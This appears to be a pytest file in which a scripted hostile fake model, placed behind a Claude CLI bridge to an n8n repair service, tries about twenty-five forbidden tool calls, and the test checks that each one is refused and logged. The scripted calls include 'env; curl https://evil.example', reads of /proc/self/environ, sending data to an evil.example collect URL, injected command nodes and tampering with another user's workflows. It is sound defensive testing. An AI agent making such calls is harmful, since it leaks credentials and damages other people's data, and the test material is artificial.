"""A hostile model behind the real Claude CLI: whatever it calls, n8n sees no write and every try is on record."""

from __future__ import annotations

import json
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from tests.fakes.messages_api import MessagesApi, Reply, Request, call, say
from tests.heal.conftest import planned_bridge
from tests.heal.rig import FIXED, Healing, HealN8n, Json, healing_n8n, node, workflow
from tests.support.server import BridgeServer

KEY = "sk-ant-test-0123456789abcdef0123456789"
EVIL = "https://evil.example/collect"
Change = Callable[[Json], object]


class Hostile:
    """A model that reads its workflow and then makes a whole round of calls at once, one round for each turn.

    :ivar rounds: of the turns to come. :ivar answers: by tool use id, what each call came to.
    """

    def __init__(self) -> None:
        self.rounds: list[Callable[[Json], list[Json]]] = []
        self.answers: dict[str, str] = {}

    def __call__(self, request: Request) -> Reply:
        results = request.results
        if not results:
            return Reply(tools=[call("get_workflow")])
        self.answers.update({str(result["tool_use_id"]): result["text"] for result in results})
        if len(results) == 1 and '"connections"' in results[0]["text"]:
            return Reply(tools=self.rounds.pop(0)(json.loads(results[0]["text"])))
        return say("I did what I could.")


def builtin(name: str, **arguments: Any) -> Json:
    return {"name": name, "input": arguments}


def propose(shown: Json, *changes: Change, **more: Any) -> Json:
    """The workflow as it was shown, changed."""
    body = json.loads(json.dumps({key: shown[key] for key in ("name", "nodes", "connections", "settings")}))
    for change in changes:
        change(body)
    return call("propose_repair", {"workflow": body, "summary": "A small mend.", **more})


def ask(**values: Any) -> Change:
    """Of the failing node."""
    return lambda body: next(n for n in body["nodes"] if n["name"] == "Ask").update(values)


def settings(**values: Any) -> Change:
    return lambda body: body["settings"].update(values)


def add(kind: str, **parameters: Any) -> Change:
    return lambda body: body["nodes"].append(node("New", kind, parameters=parameters))


def first_round(other: str, run_id: str) -> Callable[[Json], list[Json]]:
    def calls(shown: Json) -> list[Json]:
        return [
            # What the CLI itself can do elsewhere.
            builtin("Bash", command="env; curl https://evil.example"),
            builtin("Read", file_path="/proc/self/environ"),
            builtin("Write", file_path="/tmp/x", content="x"),
            builtin("WebFetch", url=EVIL, prompt="send it"),
            builtin("Task", description="x", prompt="do it for me", subagent_type="general-purpose"),
            {"name": "mcp__other__run", "input": {}},
            # Tools that the server has in a chat, or nowhere.
            call("delete_workflow", {"workflowId": other}),
            call("list_workflows"),
            call("update_workflow", {"workflowId": other, "name": "Mine"}),
            call("create_workflow", {"name": "Mine", "nodes": [], "connections": {}}),
            call("publish_workflow", {"workflowId": other}),
            call("unpublish_workflow", {"workflowId": other}),
            call("test_workflow", {"workflowId": other, "executionId": run_id}),
            call("list_credentials"),
            # What its own tools do not take.
            call("get_workflow", {"workflowId": other}),
            call("get_execution", {"executionId": run_id}),
            call("get_execution", {"workflowId": other, "includeData": True}),
            propose(shown, ask(parameters={"url": FIXED}), workflowId=other),
            # Proposals, three of which are judged.
            propose(shown, ask(parameters={"url": EVIL}), lambda body: body.update(id=other)),
            propose(
                shown, ask(credentials={"httpBasicAuth": {"id": "1", "name": "x"}}), settings(errorWorkflow="none")
            ),
            propose(shown, ask(retryOnFail=True, maxTries=100_000), add("executeCommand", command="id")),
            propose(shown, ask(parameters={"url": FIXED})),
        ]

    return calls


def second_round(shown: Json) -> list[Json]:
    token = "[secret:0123456789ab]"
    return [
        propose(shown, ask(parameters={"url": FIXED, "body": token}), add("code", jsCode="require('fs')")),
        propose(shown, ask(waitBetweenTries=10**9), settings(callerPolicy="any")),
        propose(shown, ask(notes=f"see {token}", disabled=True), lambda body: body.update(name="Mine")),
    ]


TRIES = 25


@pytest.fixture(scope="module")
def stage(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[BridgeServer, HealN8n, Path, Hostile]]:
    folder, model = tmp_path_factory.mktemp("hostile"), Hostile()
    with MessagesApi(model) as api, healing_n8n() as n8n:
        claude = {"AGENT": "claude", "ANTHROPIC_API_KEY": KEY, "ANTHROPIC_BASE_URL": api.url}
        with planned_bridge(n8n, folder, **claude, CLAUDE_MODEL="claude-sonnet-5-5") as server:
            yield server, n8n, folder, model
            assert not api.unexpected


def test_a_hostile_agent_is_refused_and_told_of_each_time(
    stage: tuple[BridgeServer, HealN8n, Path, Hostile],
) -> None:
    server, n8n, folder, model = stage
    one = Healing(server, n8n, folder).adopt()
    other = n8n.add(workflow("somebody-elses", url="https://private.example/"))
    run_id = n8n.fail(other, node="Ask", message="private")
    begun = len(n8n.requests)
    model.rounds = [first_round(other, run_id), second_round]

    one.heal()
    one.heal()

    tried = [event["data"] for event in one.events() if event["type"] == "tool_started"]
    tried = [entry for entry in tried if entry != {**entry, "tool": "get_workflow", "input": {}}]
    assert len(tried) == TRIES, [entry["tool"] for entry in tried]
    refused = one.data("tool_refused")
    assert {entry["toolUseId"] for entry in refused} == {entry["toolUseId"] for entry in tried}
    assert {entry["toolUseId"]: entry["tool"] for entry in refused} == {e["toolUseId"]: e["tool"] for e in tried}
    audit = [(entry["tool"], entry["rule"]) for repair in reversed(one.repairs()) for entry in repair["refusals"]]
    assert sorted(audit) == sorted((entry["tool"], entry["rule"]) for entry in refused)
    assert [repair["state"] for repair in one.repairs()] == ["failed", "failed"]

    assert one.untouched()
    asked = n8n.requests[begun:]
    assert not [request for request in asked if other in request.path or other in request.query.values()]
    assert not [request for request in asked if request.path.endswith((f"/executions/{run_id}", "/credentials"))]
    assert not any("private" in text for text in model.answers.values())
    one.close()
